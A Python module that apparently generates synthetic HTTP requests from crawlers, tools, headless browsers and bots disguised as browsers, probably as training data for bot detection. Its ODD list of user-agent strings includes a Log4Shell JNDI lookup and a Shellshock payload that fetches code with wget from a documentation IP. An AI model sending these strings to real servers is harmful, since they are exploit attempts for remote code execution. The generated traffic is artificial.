"""robots.py - visits by programs: declared crawlers, tools, headless browsers, and bots in a browser's clothes.

Law: a bot differs from a person in what it does, never in what it happened to be recorded with. One that claims to be a
browser takes its agent from where people's agents come from (people.py), and its headers from the tool it is made with.
Bots that send exactly what a browser sends are left out: one request cannot tell them.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator, Mapping
from dataclasses import replace

from training.corpus import agents, people, published
from training.corpus.browsers import HTML, Browser, Habits, accept, headers, hints, languages, parse
from training.corpus.heads import Pairs, fill, rows
from training.corpus.site import WORDS, Visit, Want

# What is asked for, and with which headers
Asked = tuple[Want, Pairs]
NAMES = ["Net", "Site", "Web", "Data", "Link", "Page", "Seo", "Meta", "Deep", "Open", "Fast", "Info", "Rank", "Trend", "Price", "News", "Ad",
         "Quanta", "Vox", "Lumi", "Kra", "Zen", "Omni", "Pixel", "Brand", "Intel", "Semantic", "Market", "Domain", "Archive"]
WORKERS = ["bot", "Bot", "bot", "Crawler", "crawler", "Spider", "spider", "-bot", "robot", "Fetcher", "Scanner", "Checker", "Monitor", "Indexer",
           "Probe", "Agent", "Scraper", "Preview", "Validator", "Analyzer", "Harvester", "Archiver", "Search", "Watch"]
CRAWLERS = [
    "Mozilla/5.0 (compatible; {name}/{a}.{b}; +http://{host}/bot.html)", "Mozilla/5.0 (compatible; {name}/{a}.{b}; +https://{host}/)",
    "{name}/{a}.{b} (+https://{host}/crawler)", "{name}/{a}.{b}", "{name}", "Mozilla/5.0 (compatible; {name}; info@{host})",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; {name}/{a}.{b}; +https://{host}/bot)",
    "{browser} (compatible; {name}/{a}.{b}; +http://{host}/bot.html)", "{browser} {name}/{a}.{b}", "{name} ({name}@{host})",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; compatible; {name}/{a}.{b}; +https://{host}) Chrome/{chrome} Safari/537.36",
]
ODD = ["Mozilla/5.0", "Mozilla/4.0", "Mozilla", "mozilla/5.0", "Mozilla/5.0 (compatible)", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
       "Mozilla/5.0 (X11; Linux x86_64)", "Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US)", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
       "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)", "Mozilla/4.0 (compatible)", "test", "Test", "x", "1", "Hello, World", "Hello World/1.0",
       "Chrome", "Firefox", "Internet Explorer", "browser", "user-agent", "null", "None", "undefined", "${{jndi:ldap://192.0.2.1/a}}",
       "() {{ :; }}; /bin/bash -c 'wget http://192.0.2.1/a'", "'Mozilla/5.0 (Windows NT 10.0; WOW64) Gecko'", "User-Agent: {browser}", "\"{browser}\"",
       "User-Agent {browser}", "{hex}", "{word}", "{word}/{a}.{b}", "{word} client", "Mozilla/5.0 {word}/{a}.{b}", "Mozilla/5.0 (compatible; {word})"]
HEADLESS = [
    (50, "Mozilla/5.0 ({system}) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/{chrome} Safari/537.36"),
    (6, "Mozilla/5.0 ({system}) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessEdg/{chrome} Chrome/{chrome} Safari/537.36"),
    (10, "Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.{a}.1 Safari/538.1"),
    (3, "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/602.1 (KHTML, like Gecko) splash Version/10.0 Safari/602.1"),
    (5, "{browser} {driver}"),
]
SYSTEMS = ["X11; Linux x86_64", "X11; Linux x86_64", "Windows NT 10.0; Win64; x64", "Macintosh; Intel Mac OS X 10_15_7"]
DRIVERS = ["Playwright/1.{b}.0", "Puppeteer", "Selenium/4.{b}", "Cypress/12.{a}.0", "PTST/{b}0211", "Chrome-Lighthouse", "WebDriver"]
PHANTOM = "Accept|User-Agent|Connection: Keep-Alive|Accept-Encoding: gzip, deflate|Accept-Language: en-US,*|Host"
ACCEPTS = ["text/html", "*/*", "text/html,*/*", "application/json, text/plain, */*", HTML.rstrip(",").rpartition(";")[0]]
SPAM = ["http://semalt.example/", "http://buttons-for-website.example/", "http://best-seo-offer.example/", "http://free-share.example/go"]


def requests(visit: Visit, wants: list[Want], rng: random.Random) -> Iterator[Asked]:
    """The requests of one visit by a program, with their headers."""
    kind = rng.choices([declared, tool, disguised, nameless, headless, odd], [28, 22, 33, 6, 8, 3])[0]
    if kind is declared:
        if rng.random() < 0.25:
            wants = [replace(wants[0], kind="page", path=rng.choice(["/robots.txt", "/robots.txt", "/sitemap.xml"]), again=False), *wants[1:]]
    elif kind is not headless and rng.random() < 0.3:
        wants = [replace(want, kind="probe", path="\t".join(rng.choice(rows("probes.tsv"))), page=None, again=False) for want in wants]
    elif rng.random() < 0.05:
        wants = [replace(wants[0], kind="page", path="/robots.txt", again=False), *wants[1:]]
    send = kind(visit, rng)
    for want in wants:
        yield want, send(want)


def method_and_path(want: Want, rng: random.Random) -> tuple[str, str]:
    """How a program asks for `want`."""
    if want.kind == "probe":
        method, _, path = want.path.partition("\t")
        return method, path
    return "HEAD" if want.method == "GET" and rng.random() < 0.04 else want.method, want.path


Send = Callable[[Want], Pairs]


def _blank(text: str, visit: Visit, rng: random.Random) -> str:
    """Fills the blanks of a bot's agent; only those it has."""
    number = rng.randint
    words = {"a": lambda: str(number(0, 9)), "b": lambda: str(number(10, 48)), "c": lambda: str(number(100, 400)), "hex": lambda: f"{rng.getrandbits(64):x}",
             "word": lambda: rng.choice(WORDS), "name": lambda: _name(rng), "host": lambda: rng.choice(WORDS) + rng.choice(WORDS) + rng.choice([".com", ".io", ".net"]),
             "browser": lambda: people.agent(visit, rng)[0], "system": lambda: rng.choice(SYSTEMS), "driver": lambda: rng.choice(DRIVERS).format(a=number(1, 9), b=number(10, 48)),
             "chrome": lambda: agents.chrome_version(agents.major("chrome", max(visit.year, 2017), rng), rng)}
    return text.format_map({key: make() for key, make in words.items() if "{" + key + "}" in text})


def _name(rng: random.Random) -> str:
    stem = "".join(rng.sample(NAMES, rng.choice([1, 2])))
    return rng.choice([stem, stem.lower()]) + rng.choice(WORKERS)


def _tool(rng: random.Random) -> tuple[str, str, str]:
    """How own headers join, an agent (blanks open), and the header set of a tool."""
    table = rows("tools.tsv")
    _, how, names, head_set = rng.choices(table, [float(row[0]) for row in table])[0]
    return how, rng.choice(names.split("|")), head_set


def join(how: str, own: Mapping[str, str], usual: Pairs) -> Pairs:
    """The headers of a tool that was given headers of its own.

    `end`: they replace the usual ones in their place, the others follow. `first`: they come before the usual ones (behind
    Host, if that leads). `sorted`: Host, User-Agent, then all by name, the tool's own Accept-Encoding last.
    """
    names = {name.lower(): name for name in own}
    if how == "end":
        known = {name.lower() for name, _ in usual}
        return [(name, own[names[name.lower()]] if name.lower() in names else value) for name, value in usual] + [
            (name, value) for name, value in own.items() if name.lower() not in known]
    rest = [(name, value) for name, value in usual if name.lower() not in names]
    if how == "first":
        lead = rest[:1] if rest and rest[0][0] == "Host" else []
        return lead + list(own.items()) + rest[len(lead):]
    every = dict(rest) | {name.title().replace("Dnt", "DNT"): value for name, value in own.items()}
    last = [(name, every.pop(name)) for name, _ in rest if name == "Accept-Encoding"]
    return [(name, every.pop(name)) for name in ("Host", "User-Agent") if name in every] + sorted(every.items()) + last


def _extras(visit: Visit, rng: random.Random) -> Callable[[Want], dict[str, str]]:
    """What a program adds to a request by what it is after: a referrer, a cookie, a body, a date."""
    source = rng.choices(["none", "own", "forged", "spam"], [80, 11, 6, 3])[0]
    cookie = f"sid={rng.getrandbits(64):x}" if rng.random() < 0.08 else ""
    dated = rng.random() < 0.08

    def extras(want: Want) -> dict[str, str]:
        out = {}
        if source != "none":
            out["Referer"] = {"own": visit.origin + (want.page or "/"), "forged": rng.choice(["https://www.google.com/", people.outside(visit, rng)]),
                              "spam": rng.choice(SPAM)}[source]
        if cookie and want.page:
            out["Cookie"] = cookie
        if want.method == "POST" or want.path.startswith("POST"):
            out |= {"Content-Type": rng.choice(["application/x-www-form-urlencoded", "application/json"]), "Content-Length": str(rng.randint(2, 900))}
        if dated and want.again:
            out["If-Modified-Since"] = f"Tue, {rng.randint(10, 28)} Jan 20{rng.randint(10, 26)} 01:02:03 GMT"
        return out

    return extras


def declared(visit: Visit, rng: random.Random) -> Send:
    """A crawler, monitor or scanner that says so in its agent; its headers are its own, a tool's or a browser's."""
    agent = rng.choice(published.crawler_agents()) if rng.random() < 0.7 else _blank(rng.choice(CRAWLERS), visit, rng)
    chance = rng.random()
    if chance < 0.2:
        return _rendering(parse(agent), Habits(), visit, rng, languages_too=rng.random() < 0.4)
    if chance < 0.65:
        table = rows("crawlers.tsv")
        how, head_set = "end", rng.choices(table, [float(row[0]) for row in table])[0][1]
    else:
        how, _, head_set = _tool(rng)
    return _sending(how, head_set, {"User-Agent": agent}, visit, rng)


def tool(visit: Visit, rng: random.Random) -> Send:
    """A tool or a library under its own name, at times with a browser's Accept."""
    how, name, head_set = _tool(rng)
    own = {}
    if rng.random() < 0.12:
        browser = parse(people.agent(visit, rng)[0])
        own = {"Accept": accept(browser, "page"), "Accept-Language": languages(browser, visit.language)}
    return _sending(how, head_set, own, visit, rng, agent=_blank(name, visit, rng))


def nameless(visit: Visit, rng: random.Random) -> Send:
    """A tool without an agent, with an empty one, or with a dash."""
    how, _, head_set = _tool(rng)
    agent = rng.choices([None, "", "-"], [60, 30, 10])[0]
    return _sending(how, head_set, {}, visit, rng, agent=agent)


def odd(visit: Visit, rng: random.Random) -> Send:
    """A tool with an agent that no program has: cut short, quoted, invented, an attack."""
    how, _, head_set = _tool(rng)
    return _sending(how, head_set, {"User-Agent": _blank(rng.choice(ODD), visit, rng)}, visit, rng)


def disguised(visit: Visit, rng: random.Random) -> Send:
    """A tool that claims to be a browser and copies more or less of what one sends; what it forgets or misplaces shows."""
    name, _ = people.agent(visit, rng)
    browser = parse(name)
    how, _, head_set = _tool(rng)
    own = {"User-Agent": name}
    level = rng.choices(["agent", "accept", "language", "more", "copied", "mixed"], [28, 18, 20, 14, 12, 8])[0]
    if level in ("copied", "mixed"):
        if level == "mixed":
            browser = parse(people.agent(visit, rng)[0])
        page = Want("page", "/", None, False, 0.0)
        copied = headers(browser, Habits(), visit, page, "", "", rng)
        # Some entries get lost, and what the tool sends itself it sends in its own place.
        own |= {key: value for key, value in copied if key not in ("Host", "Connection", "User-Agent") and rng.random() > 0.12}
        how = "sorted" if how == "sorted" else "end"
    else:
        if level != "agent":
            # Copied from the browser it claims to be, from another one, or invented.
            other = parse(people.agent(visit, rng)[0])
            own["Accept"] = rng.choice([accept(browser, "page"), accept(other, "page"), rng.choice(ACCEPTS)])
        if level in ("language", "more"):
            own["Accept-Language"] = rng.choice(["en-US,en;q=0.9", "en-US,en;q=0.5", "en", "en-US", languages(browser, visit.language)])
            if rng.random() < 0.6:
                own["Accept-Encoding"] = rng.choice(["gzip, deflate", "gzip, deflate, br", "gzip", "identity", "gzip,deflate", "*"])
        if level == "more":
            own |= {key: value for key, value in (("Upgrade-Insecure-Requests", "1"), ("Cache-Control", "max-age=0"), ("Connection", "close"),
                                                  ("DNT", "1"), ("Pragma", "no-cache"), ("X-Forwarded-For", "127.0.0.1"),
                                                  ("X-Requested-With", "XMLHttpRequest")) if rng.random() < 0.35}
        pairs = list(own.items())
        rng.shuffle(pairs)
        own = dict(pairs)
    return _sending(how, head_set, own, visit, rng)


def headless(visit: Visit, rng: random.Random) -> Send:
    """A browser without a screen: by its agent, or by its client hints under an honest browser's agent."""
    if rng.random() < 0.25 and visit.trusted:
        name = _blank("Mozilla/5.0 ({system}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{chrome} Safari/537.36", visit, rng)
        recorded = hints(parse(name), rng, "HeadlessChrome")
        return _rendering(parse(name), Habits(recorded=recorded), visit, rng, languages_too=rng.random() < 0.4)
    name = _blank(rng.choices([row[1] for row in HEADLESS], [row[0] for row in HEADLESS])[0], visit, rng)
    if "PhantomJS" in name:
        return _sending("end", PHANTOM, {}, visit, rng, agent=name, accept=HTML + "*/*;q=0.8")
    browser = parse(name)
    recorded = hints(browser, rng, "HeadlessChrome") if "HeadlessChrome" in name and browser.version >= 90 else {}
    return _rendering(browser, Habits(recorded=recorded), visit, rng, languages_too=rng.random() < 0.5)


def _rendering(browser: Browser, habits: Habits, visit: Visit, rng: random.Random, *, languages_too: bool) -> Send:
    """What a real browser sends that a program drives."""

    def send(want: Want) -> Pairs:
        seen = replace(want, kind="page") if want.kind == "probe" else want
        source = visit.origin + seen.page if seen.page else ""
        pairs = headers(browser, habits, visit, seen, source, "", rng)
        return [pair for pair in pairs if languages_too or pair[0] != "Accept-Language"]

    return send


def _sending(how: str, head_set: str, own: dict[str, str], visit: Visit, rng: random.Random, *, agent: str | None = None,
             accept: str | None = None) -> Send:
    """What a tool sends that was given the headers `own`; `agent` is the tool's own."""
    extras = _extras(visit, rng)
    values = {"Host": visit.host} | ({} if agent is None else {"User-Agent": agent}) | ({} if accept is None else {"Accept": accept})
    if "User-Agent" in own:
        values["User-Agent"] = own["User-Agent"]

    def send(want: Want) -> Pairs:
        return join(how, own | extras(want), fill(head_set, values))

    return send
